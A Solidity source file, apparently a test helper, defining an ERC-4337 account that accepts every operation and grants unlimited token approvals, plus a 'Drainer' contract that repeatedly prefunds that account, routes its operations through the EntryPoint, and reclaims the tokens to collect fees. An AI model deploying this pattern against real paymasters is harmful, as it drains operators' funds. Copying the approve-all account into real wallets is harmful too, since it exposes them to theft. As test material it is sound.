// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {IEntryPoint, PackedUserOperation} from "@openzeppelin/contracts/interfaces/IERC4337.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// @dev Accepts every operation, does nothing in its call, and lets its maker and the paymaster take its tokens.
contract TrivialAccount {
    constructor(IERC20 token, address paymaster) {
        token.approve(paymaster, type(uint256).max);
        token.approve(msg.sender, type(uint256).max);
    }

    function validateUserOp(PackedUserOperation calldata, bytes32, uint256) external pure returns (uint256) {
        return 0;
    }

    fallback() external {}
}

/// @dev Bundles operations of its own account and keeps the fees: gives the account its prefund, sends the operation,
/// takes the refund back, and again, all in one transaction.
contract Drainer {
    IERC20 private immutable _TOKEN;
    IEntryPoint private immutable _ENTRY_POINT;
    TrivialAccount public immutable account;

    constructor(IERC20 token, IEntryPoint entryPoint, address paymaster) {
        _TOKEN = token;
        _ENTRY_POINT = entryPoint;
        account = new TrivialAccount(token, paymaster);
    }

    function drain(PackedUserOperation memory op, uint256 prefund, uint256 times) external {
        PackedUserOperation[] memory ops = new PackedUserOperation[](1);
        ops[0] = op;
        for (uint256 i; i < times; ++i) {
            op.nonce = _ENTRY_POINT.getNonce(address(account), 0);
            _TOKEN.transfer(address(account), prefund);
            _ENTRY_POINT.handleOps(ops, payable(msg.sender));
            _TOKEN.transferFrom(address(account), address(this), _TOKEN.balanceOf(address(account)));
        }
    }
}
